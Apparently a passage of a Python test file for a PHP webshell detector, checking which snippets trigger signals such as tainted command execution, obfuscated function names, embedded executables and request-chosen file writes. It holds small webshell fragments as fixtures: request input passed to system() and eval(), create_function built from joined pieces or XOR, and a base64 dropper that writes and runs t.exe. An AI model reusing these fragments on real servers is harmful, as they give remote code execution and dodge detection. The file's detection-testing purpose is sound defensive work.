             "$fp = fopen(\"$d/$new/a.txt\", 'w'); $h = opendir($d); ?>")
    assert "form_field_file_manager" in signals(shell)
    benign = ("<a href='?d=/var/www&del=index.php'>x</a><form><input name=new></form>\n"
              "<?php $d = get_upload_dir(); $del = basename(get_param('del')); $new = clean_name(get_param('new'));\n"
              "if ($del) unlink(\"$d/$del\"); if ($new) mkdir(\"$d/$new\", 0755); $h = opendir($d); ?>")
    assert "form_field_file_manager" not in signals(benign)


def test_mail_sent_to_each_address_of_a_posted_list():
    shell = ("<?php $rcpt = explode(\"\\n\", $_POST['rcpt']);\n"
             "for ($i = 0; $i < count($rcpt); $i++) { mail($rcpt[$i], $_POST['subj'], $_POST['body']); }")
    assert {"bulk_mail_from_request", "mail_to_each_listed_address"} <= signals(shell)
    benign = ("<?php $lines = explode(\"\\n\", $_POST['message']);\n"
              "mail(get_option('admin_email'), 'Contact', implode(\"\\r\\n\", $lines));")
    assert "mail_to_each_listed_address" not in signals(benign)


def test_code_written_with_underscore_names_only():
    shell = "<?php $_ = []; $__ = 1; $___ = $__ + $__; " + "$_[] = $__ << $___; $__ = $__ ^ $___; " * 3 + "$_[$__]($_[$___]);"
    assert "underscore_identifiers" in signals(shell)
    benign = "<?php foreach ($rows as $_ => $row) { $out[$_] = __('Label'); } " + "echo __('x'); " * 10
    assert "underscore_identifiers" not in signals(benign)


def test_request_loop_variable_passed_to_a_reflected_constructor():
    shell = ("<?php class R { function __construct($f, $a) { $f($a); } }\n"
             "foreach ($_POST as $k => $v) { $fn = $k; }\n"
             "$obj = (new ReflectionClass('R'))->newInstance($fn, $v);")
    assert "tainted_to_reflection_call" in signals(shell)
    benign = ("<?php final class HomeController { public function __invoke($request): void {\n"
              "foreach ($_POST as $k => $v) { $this->form[$k] = trim($v); } } }")
    assert "tainted_to_reflection_call" not in signals(benign)


def test_taint_is_followed_through_several_assignments_in_a_small_file():
    shell = "<?php $a = $_POST['k']; $b = trim($a); $c = 'ec' . 'ho ' . $b; system($c);"
    assert "tainted_to_command" in set(php.score_php([shell]).found)
    # The same chain with a value that never came from the request is not tainted.
    benign = "<?php $a = $_POST['k']; $b = trim($version); $c = 'ec' . 'ho ' . $b; system($c);"
    assert "tainted_to_command" not in set(php.score_php([benign]).found)


def test_taint_is_not_followed_past_one_assignment_in_a_large_file():
    # A large file reuses names across functions; one step (from the request itself) still counts there.
    filler = "<?php\n" + "".join("// line %d of a long library\n" % i for i in range(400))
    assert len(filler) > php._PROPAGATE_SIZE
    chain = "$a = $_POST['k']; $b = trim($a); system($b);"
    assert "tainted_to_command" in set(php.score_php(["<?php " + chain]).found)
    assert "tainted_to_command" not in set(php.score_php([filler + chain]).found)
    assert "tainted_to_command" in set(php.score_php([filler + "$b = $_POST['k']; system($b);"]).found)


def test_a_value_picked_from_a_table_by_a_request_key_is_not_tainted():
    code = ("<?php $action = $_GET['a']; $render = $handlers[$action]; $render($title);"
            " $cmd = $_GET['c']; $run = $cmd; $run($title);")
    found = php._propagated(php._assigned_values(code.lower()), {"$action", "$cmd"})
    assert found == {"$run"}


def _program(kind):
    """A made-up program image of 6 KB: a DOS header whose e_lfanew points to the PE signature, or an ELF header."""
    if kind == "pe":
        head = bytearray(b"MZ\x90\x00" + bytes(0x3c - 4) + (0x80).to_bytes(4, "little") + bytes(0x80 - 0x40) + b"PE\0\0")
    else:
        head = bytearray(b"\x7fELF\x02\x01\x01" + bytes(9))
    return bytes(head) + bytes(range(256)) * 24


def test_native_program_carried_in_a_literal_is_a_dropper():
    import base64

    encoded = base64.b64encode(_program("pe")).decode()
    lines = "\n".join(encoded[i:i + 76] for i in range(0, len(encoded), 76))  # as base64 tools wrap it
    dropper = '<?php $tool = "%s";\nfile_put_contents("t.exe", base64_decode($tool)); exec("t.exe");' % lines
    assert "embedded_native_program" in signals(dropper)
    # A program of about 3.5 KB: its base64, without the line breaks, is not a whole number of 4-character quads
    # within the first 4 KB read.
    small = base64.b64encode(_program("pe")[:3100]).decode()
    assert len(small[:4099]) % 4 == 3
    assert "embedded_native_program" in signals("<?php $t = '%s\n%s';" % (small[:4097], small[4097:4099]))
    elf = "<?php $bin = hex2bin('%s');" % _program("elf").hex()
    assert "embedded_native_program" in signals(elf)
    # The same letters without a program behind them: MZ without the PE signature, a short literal, a PNG.
    not_pe = base64.b64encode(b"MZ" + bytes(range(256)) * 24).decode()
    short = base64.b64encode(_program("pe")[:600]).decode()
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(6000)).decode()
    for literal in (not_pe, short, png):
        assert "embedded_native_program" not in signals("<?php $data = '%s';" % literal)


def test_request_chosen_include_is_decisive_only_in_a_small_file():
    snippet = "<?php $m = urldecode($_REQUEST['manifest']); include($m);\n"
    assert php.score_php([snippet.lower()]).found["input_variable_included"] == 10
    padding = "".join("function step%d($a) { return $a + %d; }\n" % (i, i) for i in range(300))
    large = (snippet + padding).lower()
    assert len(large) > 8192
    assert php.score_php([large]).found["input_variable_included"] == 5


def test_xor_of_literals_pairs_whole_literals_only():
    """A closing quote is never taken for an opening one: the code between two literals that hold a caret
    stays in the normalised text (a shell could otherwise erase its own call from it)."""
    benign = "<?php $s = str_replace('x', '^', 'y' . $t);"
    assert decode.normalise(benign) == benign
    for shell in ("<?php $m = '^'; system($_GET['c']); $n = ['^', 'z'];",
                  "<?php $k = \"\\x41\"; $m = '^'; system($_GET['c']); $n = '^'.'z';"):
        assert "system($_GET['c'])" in decode.normalise(shell)
    key = "@@@@@@"
    mask = "".join(chr(ord(a) ^ ord(b)) for a, b in zip("assert", key))
    assert decode.normalise("<?php $f = '%s' ^ '%s';" % (key, mask)) == "<?php $f = 'assert';"


def test_a_variable_and_a_bracket_inside_a_string_are_printed_not_called():
    # osTicket's ticket lookup: "$email ($count)" puts both values into the text; PHP calls nothing there.
    lookup = "<?php $count = $_REQUEST['n'];\n$hit = array('info' => \"$email ($count)\", 'label' => '$f($count)');"
    assert not {"tainted_to_variable_function", "variable_function"} & signals(lookup)
    # Out of the string, or in the {$...} syntax that does run calls, it is a call.
    assert "tainted_to_variable_function" in signals("<?php $count = $_REQUEST['n'];\n$email ($count);")
    assert "input_to_variable_function" in signals("<?php $s = \"{$f($_GET['c'])}\";")
    # Quotes on a line where PHP starts or a comment of several lines ends are no PHP strings (HTML's, a comment's).
    assert "input_to_variable_function" in signals('<a href="<?php $f($_GET[\'c\']); ?>">x</a>')
    assert "variable_function" in signals("<?php $a = 1; /*'\n'x*/$f($a, 'z');")


def test_a_sink_name_with_a_bracket_inside_another_string_is_text_not_a_call():
    # MODX's Russian settings lexicon explains "system" ( ) inside a single-quoted message.
    lexicon = "<?php\n$_lang['setting_x_desc'] = 'Значения: \"system\" ( ), \"parent\" ( ).';"
    assert "sink_name_called" not in signals(lexicon.encode("utf-8").decode("latin-1"))
    assert "sink_name_called" in signals("<?php\n\"system\" ($_GET['c']);")


def test_a_callback_named_after_a_prefix_no_sink_starts_with_is_the_applications_own():
    # SMF's installer: the request picks a step, the template function is 'template_' . its name.
    installer = "<?php $step = $_GET['step'];\ncall_user_func('template_' . $step);\ncall_user_func(\"do$step\");"
    assert "tainted_to_callback" not in signals(installer)
    # A prefix a sink's name starts with, a namespace backslash alone or a wrapper that can cut the prefix off.
    for call in ("call_user_func('sys' . $step, 'id');", "call_user_func('\\\\' . $step, 'id');",
                 "call_user_func(substr('template_' . $step, 9), 'id');", "call_user_func('file_' . $step, 'a', 'b');"):
        assert "tainted_to_callback" in signals("<?php $step = $_GET['step'];\n" + call), call


def test_a_late_callback_must_be_an_argument_of_its_own_call():
    # SMF's attachments: the last argument after array_filter(...) is load()'s, not array_filter()'s callback.
    load = "<?php $loaded = self::load(array_keys(array_filter($_SESSION['can_preview'])), 1, $get_thumbs);"
    assert "input_with_late_dynamic_callback" not in signals(load)
    for shell in ("<?php array_filter(array($_GET['x']), $f);", "<?php array_filter(explode(')', $_GET['x']), $f);"):
        assert "input_with_late_dynamic_callback" in signals(shell), shell


def test_request_input_written_inside_a_string_is_printed_not_called():
    # MODX's thumbnailer logs "skipping because $_SERVER[HTTP_REFERER] (" . its value . ") is not allowed".
    log = "<?php\n$this->debug('skipping because $_SERVER[HTTP_REFERER] (' . @$_SERVER['HTTP_REFERER'] . ') is bad');"
    assert "input_as_function" not in signals(log)
    assert "input_as_function" in signals("<?php\n$_SERVER['HTTP_X'] ($_POST['c']);")


def test_a_variable_holding_only_a_harmless_closure_of_the_file_is_no_function_a_name_chose():
    # osTicket's login page: $redirect = function ($url) use ($json) {...}; $redirect($_SERVER['REQUEST_URI']).
    login = ("<?php\n$redirect = function($url) use ($json) {\n  if ($json) { echo json_encode(array('to' => $url)); }\n"
             "  else { header('Location: ' . $url); }\n};\n$redirect($_SERVER['REQUEST_URI']);\n"
             "$dest = $_GET['dest']; $redirect($dest);\n$fmt = fn($v) => htmlspecialchars($v); echo $fmt($_GET['q']);")
    assert not {"input_to_variable_function", "tainted_to_variable_function", "variable_function"} & signals(login)
    # A closure that runs a command, given the request: through the closure, as through a named function.
    assert "tainted_through_function" in signals("<?php\n$f = function($c) { system($c); };\n$f($_GET['c']);")
    assert "tainted_through_function" in signals("<?php\n$f = fn($c) => system($c);\n$f($_GET['c']);")
    # A closure that runs something, or a variable also given something else, keeps counting as a variable call.
    for shell in ("<?php\n$run = function($c) { return `$c`; };\necho $run($_GET['q']);",
                  "<?php\n$f = function($v) { return trim($v); };\nif ($x) { $f = $_GET['f']; }\n$f($_GET['q']);"):
        assert "input_to_variable_function" in signals(shell), shell


def test_a_variable_holding_only_harmless_function_names_written_out_calls_one_of_those():
    # Subrion's captcha and elFinder's session: the function is one the file names, chosen by a setting or a type.
    captcha = ("<?php\n$code = $_POST['security_code'];\n$fn = $this->get('case_sensitive') ? 'strcmp' : 'strcasecmp';\n"
               "if ($fn($code, $_SESSION['pass']) !== 0) { return false; }\n$check = null;\n"
               "if (is_string($empty)) { $check = 'is_string'; }\nif ($check && !$check($_SESSION['x'])) { return; }")
    assert not {"input_to_variable_function", "tainted_to_variable_function", "variable_function"} & signals(captcha)
    # A risky name, a name built in steps, any other value or a variable set by other means keeps it a shell's call.
    for shell in ("$f = 'system';", "$f = $x ? 'system' : 'trim';", "$f = 'sys';\n$f .= 'tem';",
                  "$f = 'trim';\nif ($x) { $f = $_GET['f']; }", "$f = 'trim';\nforeach ($_GET as $f => $v) {}",
                  "$f = 'trim';\nextract($_GET);"):
        assert "input_to_variable_function" in signals("<?php\n" + shell + "\n$f($_GET['c']);"), shell


def test_an_upload_opened_for_reading_is_no_write_path_the_request_chose():
    # phpList's import: fopen($_FILES['import_file']['tmp_name'], 'r') reads the uploaded list (a blank before 'r').
    assert "input_chosen_write_path" not in signals("<?php $fp = fopen($_FILES['import_file']['tmp_name'], 'r');")
    for mode in ("'w'", " \"a+\"", "$mode"):
        assert "input_chosen_write_path" in signals("<?php $fp = fopen($_GET['f'], %s);" % mode), mode


@pytest.mark.parametrize("shell", [
    # A writer in two steps through variables (a shell collection's "chmod exploit" page writes this way).
    "<?php $n = stripslashes($_POST['n']); $c = stripslashes($_POST['c']);\n$h = @fopen($n, 'a');\n"
    "@fputs($h, $c); @fclose($h);",
    "<?php $to = $_GET['to']; $body = base64_decode($_POST['b']);\nfile_put_contents($to, $body);",
    "<?php $fp = @fopen({$_POST['filename']}, 'w');\n$mess = $_POST['mess'];\nfwrite($fp, $mess);",
])
def test_a_file_the_request_names_written_with_what_it_sends_is_a_shell(shell):
    result = verdict(shell)
    assert result["kind"] == "webshell", result
    assert {"input_chosen_write_path", "input_to_file_write"} <= set(result["signals"])


@pytest.mark.parametrize("benign", [
    # SMF's theme copy: the request names a template inside the theme's folder; what is written is read from a file.
    "<?php if (isset($_REQUEST['template'])) {\n$filename = $dir . '/' . $_REQUEST['template'] . '.template.php';\n"
    "$fp = fopen($theme['theme_dir'] . '/' . $_REQUEST['template'] . '.template.php', 'w');\n"
    "fwrite($fp, file_get_contents($filename)); }",
    # The request chooses the file, the application its content (a cache, an export).
    "<?php $name = $_GET['cache']; $fp = fopen($name, 'w'); fwrite($fp, serialize($rows)); fclose($fp);",
    # The request sends the content, the application chooses the file (an installer's settings).
    "<?php $db = $_POST['db_name']; $fp = fopen(CONFIG_DIR . '/settings.php', 'w'); fwrite($fp, $db);",
])
def test_a_write_where_the_request_chooses_only_one_side_is_no_shell(benign):
    found = signals(benign)
    assert not {"input_chosen_write_path", "input_to_file_write"} <= found, found


FILE_HELPERS = ("function update($filename, $data) {\n    file_put_contents($filename, $data);\n}\n"
                "function remove(string $file) { if (is_file($file)) { unlink($file); } }\n")


@pytest.mark.parametrize("calls", [
    "update($_POST['file'], $_POST['data']);\nremove(@$_GET['del']);",
    "if ($_POST['go']) { update( $_POST['file'] ,$_POST['data'] ); }\nremove($_REQUEST['f'] ?? '');",
])
def test_request_values_handed_to_the_files_own_helpers_reach_their_file_operations(calls):
    # A shell collection's file lister: its write and delete live in helpers called with the posted values.
    result = verdict("<?php\n" + FILE_HELPERS + calls)
    assert result["kind"] == "webshell", result
    assert {"request_driven_file_manager", "input_chosen_write_path"} <= set(result["signals"]), result


@pytest.mark.parametrize("calls", [
    # The values are sanitised or only part of the path: they do not start the helper's argument.
    "update(basename($_POST['file']), $_POST['data']);\nremove(UPLOADS . '/' . $_GET['del']);",
    # The request picks an entry of the application's own table; a method call may reach another class's method.
    "update($paths[$_POST['file']], $_POST['data']);\n$this->remove($_GET['del']);",
    # The request values go to other calls than the helpers.
    "log_event($_POST['file'], $_POST['data']);\nupdate(CACHE_FILE, serialize($rows));\nremove(LOCK_FILE);",
])
def test_helpers_given_no_request_value_at_the_start_of_their_argument_are_no_file_manager(calls):
    found = signals("<?php\n" + FILE_HELPERS + calls)
    assert not {"request_driven_file_manager", "input_chosen_write_path"} & found, found


@pytest.mark.parametrize("setter", ["function g($a, $f) { return 1; }", "list($a, $f) = explode(',', $_GET['x']);",
                                    "[$a, $f] = $_GET['x'];", "global $f;", "static $f = 'trim';",
                                    "$g = function () use (&$f) { $f = $_GET['f']; };",
                                    "foreach ($_GET as $k => $f) {}", "foreach ($_GET as $f) {}"])
def test_a_function_name_variable_also_set_another_way_stays_a_variable_call(setter):
    shell = "<?php\n$f = 'trim';\n" + setter + "\n$f($_GET['c']);"
    assert "input_to_variable_function" in signals(shell)


def test_code_after_a_line_comment_closed_by_the_php_end_tag_runs():
    # PHP ends a // or # comment at ?>: "// ?><?php system(...)" runs the call (a block comment's ?> ends nothing).
    assert "input_to_command" in signals("<?php\n// ?><?php system($_GET['c']); ?>\n")
    assert "input_to_code" in signals("<?php\n# note ?><?php eval($_POST['c']);\n")
    assert "input_to_code" not in signals("<?php\n/**\n * ?><?php eval($_POST['c']);\n */\n")
    assert php.without_comments("<?php\n// x ?><?php f();\n") == "<?php\n?><?php f();\n"


# A name spelled as a list of pieces that implode()/join() puts together, kept in a variable: written for this test
# after the evasive variants generated for one public collection (0x7556/webshell, "chopper" PHP variants).
PIECES_SHELL = ("<?php\n$parts = ['cr', 'eat', 'e_f', 'unc', 'tion'];\n$maker = join('', $parts);\n"
                "$body = $_POST['k'];\n$run = @$maker('', $body);\n$run();\n")


def test_a_list_of_pieces_joined_elsewhere_is_folded_into_the_name():
    assert "'create_function'('', $body)" in decode.normalise(PIECES_SHELL)
    assert "'create_function'" in decode.normalise("<?php $p = array('crea', 'te_function'); $f = implode($p);")
    assert "'a-b'" in decode.normalise("<?php $p = [\"a\", 'b',]; $f = implode('-', $p);")
    assert verdict(PIECES_SHELL)["kind"] == "webshell"


@pytest.mark.parametrize("changed", [
    "$parts[] = 'x';",  # appended to: the list at the join is not the one assigned
    "$parts[0] = 'de';",
    "$parts = ['other'];",
])
def test_a_list_changed_after_its_assignment_is_not_folded(changed):
    code = "<?php $parts = ['cr', 'eate_function']; %s $f = join('', $parts);" % changed
    assert "join('', $parts)" in decode.normalise(code)


def test_a_property_set_once_to_a_literal_is_read_as_that_literal():
    code = ("<?php class Rules { private $proc; function __construct() { $this->proc = implode('_', ['create', "
            "'function']); }\n function run() { $rule = $_POST['r']; $h = call_user_func($this->proc, '', $rule); "
            "$h(); } }")
    text = decode.normalise(code)
    assert "create_function('', $rule)" in text
    assert "tainted_to_code" in signals(code)
    # An ordinary property read as a table name stays ordinary text.
    benign = "<?php class T { function __construct() { $this->table = 'users'; } function q() { return 'SELECT * FROM ' . $this->table; } }"
    assert "tainted_to_code" not in signals(benign) and verdict(benign)["kind"] is None


def test_call_user_func_of_a_literal_name_is_the_call_it_makes():
    text = decode.normalise("<?php call_user_func('create_function', '', $c); call_user_func(\"f\"); "
                            "$o->call_user_func('g', 1); my_call_user_func('h', 2);")
    assert "create_function('', $c)" in text and "f()" in text
    assert "$o->call_user_func('g', 1)" in text and "my_call_user_func('h', 2)" in text


def test_request_input_as_the_code_of_create_function_is_code_from_the_request():
    assert "tainted_to_code" in signals("<?php $c = $_POST['x']; $f = create_function('$a', $c); $f(1);")
    # Request data given to a function whose code is written in the file is data, not code.
    assert "tainted_to_code" not in signals("<?php $c = $_POST['x']; $f = create_function('$a', 'return $a * 2;'); "
                                            "echo $f($c);")


@pytest.mark.parametrize("code", [
    "<?php array_map('assert', $_POST);",
    "<?php $a = array_map($_GET['f'], $_POST);",
    "<?php array_filter($_REQUEST, 'system');",
    "<?php usort($_POST, $_GET['c']);",
    "<?php call_user_func_array(\"shell_exec\", $_GET);",
])
def test_a_small_file_handing_request_input_to_a_callback_it_or_the_request_chooses_is_a_shell(code):
    assert "small_file_input_and_sink" in signals(code)


@pytest.mark.parametrize("code", [
    # Magic quotes undone by the file's own function, as old applications start (the callback is a harmless name).
    "<?php function stripslashes_deep($v) { return is_array($v) ? array_map('stripslashes_deep', $v) : "
    "stripslashes($v); }\nif (get_magic_quotes_gpc()) { $_POST = array_map('stripslashes_deep', $_POST); }",
    "<?php $ids = array_map ( \"intval\" , $_GET['ids'] );",
    # array_filter() without a callback drops empty items: nothing is called.
    "<?php $queries = array_filter(explode(';', $_POST['sql'])); foreach ($queries as $q) { echo $q; }",
])
def test_a_small_file_handing_request_input_to_a_harmless_callback_or_none_has_no_sink(code):
    assert "small_file_input_and_sink" not in signals(code)


def test_a_variable_family_named_by_a_word_and_a_variable_is_no_superglobal_indirection():
    # Simple Machines Forum's package manager (${"package_{$key}"}) and SeaCMS's cache helpers (${'gtypelist'.$type})
    # name their own numbered variables so: no superglobal can be reached through a name that starts with a word.
    assert "globals_indirection" not in signals("<?php foreach ($keys as $key) { ${\"package_{$key}\"} = $info[$key]; }")
    assert "globals_indirection" not in signals("<?php if (!is_array(${'gtypelist'.$type})) { ${'gtypelist'.$type} = []; }")
    # A superglobal's name spelled in pieces, or a name that is all variable, still counts.
    assert "globals_indirection" in signals("<?php $c = ${'_' . 'POST'}['c'];")
    assert "globals_indirection" in signals("<?php $c = ${'GLO' . $rest}['_POST']['c'];")
    assert "globals_indirection" in signals("<?php $c = ${'http_' . $kind}['c'];")
    assert "globals_indirection" in signals("<?php $c = ${$name}['c'];")


def test_a_parameter_default_takes_no_request_input_from_the_code_after_it():
    # ZenTao's DAO: "function exec($sql = '')" then "if (isset($_SESSION[...]))" in its body; the pattern of an
    # assignment from the request reached past the default's closing bracket into the body.
    dao = ("<?php class dao extends baseDAO {\n    public function exec($sql = '')\n    {\n"
           "        if(isset($_SESSION['tutorialMode']) and $_SESSION['tutorialMode']) die();\n"
           "        return parent::exec($sql);\n    }\n}")
    assert not {"tainted_to_command", "tainted_through_function"} & signals(dao)
    # An assignment in the body still taints.
    body = dao.replace("return parent::exec($sql);", "$sql = $_POST['q']; return exec($sql);")
    assert "tainted_to_command" in signals(body)


def test_a_function_definition_or_a_method_is_no_call_of_it():
    # XiunoPHP's database class defines "public function count($table, $cond)" whose body reaches a query sink; the
    # bare count($_GET) further on is PHP's own count(), and the definition's own parameter list is no call either.
    method = ("<?php class db { public function count($table, $cond = array()) { return eval($table); } }\n"
              "function url() { $n = count($_GET); return $n; }")
    assert "tainted_through_function" not in signals(method)
    router = ("<?php $params = $_SERVER['QUERY_STRING'];\n"
              "function connect($params) { return eval($params); }")
    assert "tainted_through_function" not in signals(router)
    # A function of the file called with request input still counts.
    assert "tainted_through_function" in signals(router + "\nconnect($_GET['x']);")
    assert "tainted_through_function" in signals(router + "\nconnect($params);")
